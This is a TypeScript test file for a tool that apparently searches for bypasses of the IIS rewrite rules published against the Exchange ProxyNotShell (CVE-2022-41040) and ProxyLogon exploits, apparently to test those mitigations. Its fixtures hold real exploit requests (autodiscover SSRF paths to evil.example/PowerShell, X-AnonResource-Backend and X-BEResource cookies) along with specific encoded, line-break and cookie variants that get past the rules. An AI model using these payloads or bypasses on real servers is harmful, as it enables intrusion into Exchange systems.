import test from 'ava'
import { type Bypass, searchBypasses } from '../../../reconciler/proof/bypass/search.ts'
import type { Confidence, Group } from '../../../reconciler/proof/bypass/transformation.ts'
import { blockedBy, HISTORY, sent } from '../../helpers/blocked.ts'
import type { RulesText } from '../../helpers/rewrite.ts'

// facts of the history: the rule against CVE-2022-41040 was published four times in eight days.
const EXPLOIT = sent('GET /autodiscover/autodiscover.json?@evil.example/PowerShell/')
const LONG = sent(
  'GET /autodiscover/autodiscover.json?@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3f@evil.example',
)

type Version = keyof typeof HISTORY

/** What is found, as sort and confidence. */
function sorts(bypasses: readonly Bypass[]): readonly string[] {
  return bypasses.map(
    ({ how, confidence }) => `${how.map((turn) => turn.transformation.group).join('+')} ${confidence}`,
  )
}

const findsWhatTheNextFixed = test.macro({
  exec(t, version: Version, next: Version, [group, confidence]: readonly [Group, Confidence]) {
    const { bypasses, ended } = searchBypasses([EXPLOIT], blockedBy(HISTORY[version]))
    t.is(ended, 'complete')
    const fixed = bypasses.filter(({ request }) => blockedBy(HISTORY[next])([request])[0] === true)
    t.true(sorts(fixed).includes(`${group} ${confidence}`), sorts(bypasses).join(', '))
    for (const { request } of bypasses) t.false(blockedBy(HISTORY[version])([request])[0])
  },
  title: (_, version: Version, next: Version, [group]: readonly [Group, Confidence]) =>
    `given version ${version}, what ${next} fixed is found: ${group}`,
})

test(findsWhatTheNextFixed, 1, 2, ['address', 'likely'])
test(findsWhatTheNextFixed, 2, 3, ['encoding', 'same'])
test(findsWhatTheNextFixed, 3, 4, ['endpoint', 'likely'])
test(findsWhatTheNextFixed, 4, 'stronger', ['line-break', 'likely'])

const finds = test.macro({
  exec(t, request: typeof EXPLOIT, version: Version, wanted: readonly string[]) {
    const { bypasses } = searchBypasses([request], blockedBy(HISTORY[version]))
    t.deepEqual(sorts(bypasses), wanted)
  },
  title: (name) => name ?? '',
})

test('version 1', finds, EXPLOIT, 1, [
  'encoding same',
  'address likely',
  'endpoint likely',
  'parameters possible',
])
test('version 2', finds, EXPLOIT, 2, ['encoding same', 'endpoint likely', 'parameters possible'])
test('version 3', finds, EXPLOIT, 3, [
  'endpoint likely',
  'line-break likely',
  'parameters possible',
  'encoding possible',
])
test('version 4', finds, EXPLOIT, 4, ['line-break likely', 'encoding possible'])
test('the stronger form', finds, EXPLOIT, 'stronger', ['encoding possible'])
test('the stronger form, the whole exploit', finds, LONG, 'stronger', ['encoding possible'])

test('the smallest change is shown, as a request to paste', (t) => {
  const first = (version: Version): string | undefined =>
    searchBypasses([EXPLOIT], blockedBy(HISTORY[version])).bypasses[0]?.request.url
  t.is(first(2), '/autodiscover/autodiscover.json?@evil.example/%50owerShell/')
  t.is(first(3), '/autodiscover/autodiscover.xml?@evil.example/PowerShell/')
  t.is(first(4), '/autodiscover/autodiscover.json?x=%0a&@evil.example/PowerShell/')
})

test('where one line end is not enough, two changes are tried', (t) => {
  const { bypasses } = searchBypasses([LONG], blockedBy(HISTORY[4]))
  const [first] = bypasses
  t.is(first?.confidence, 'likely')
  t.is(first?.how.length, 2)
  t.is(first?.how[1]?.transformation.group, 'line-break')
})

const ANONYMOUS = sent('GET /owa/auth/x.js', {
  Cookie: 'X-AnonResource=true; X-AnonResource-Backend=evil.example/ecp/default.flt?~3',
})
const ROUTING = sent('POST /ecp/y.js', {
  Cookie: 'a=1; X-BEResource=a]@ex01:444/ecp/proxyLogon.ecp?x=1#~1941962753; b=2',
})

const onlyForms = test.macro((t, request: typeof EXPLOIT, rules: RulesText) => {
  const { bypasses, ended } = searchBypasses([request], blockedBy(rules))
  t.is(ended, 'complete')
  t.deepEqual(sorts(bypasses), ['cookies possible'])
  t.regex(String(bypasses[0]?.request.headers['Cookie']), /X%2D/)
})

const cookie = (pattern: string): RulesText => ({
  rules: `<rule name="r"><match url=".*" /><conditions><add input="{HTTP_COOKIE}" pattern="${pattern}" /></conditions><action type="AbortRequest" /></rule>`,
})

// A line end is not to be had in a header, and cookies of several headers are put together before a rule sees them.
test(
  'ProxyLogon, as published: the anonymous cookie',
  onlyForms,
  ANONYMOUS,
  cookie('(.*)X-AnonResource-Backend(.*)'),
)

test('ProxyLogon, as published: the routing cookie is passed without the slash that is asked for', (t) => {
  const { bypasses } = searchBypasses([ROUTING], blockedBy(cookie('(.*)X-BEResource=(.+)/(.+)~(.+)')))
  t.deepEqual(sorts(bypasses), ['cookies likely'])
  t.like(bypasses[0], { also: ['another form of cookie'] })
  t.is(
    bypasses[0]?.request.headers['Cookie'],
    'a=1; X-BEResource=a]@ex01:444\\ecp\\proxyLogon.ecp?x=1#~1941962753; b=2',
  )
})

test(
  'ProxyLogon, whatever Exchange does not write itself: the routing cookie',
  onlyForms,
  ROUTING,
  cookie('X-BEResource[ \\t]*=(?![ \\t]*(?:[A-Za-z0-9._-]+~[0-9]+[ \\t]*)?(?:[;,]|$))'),
)
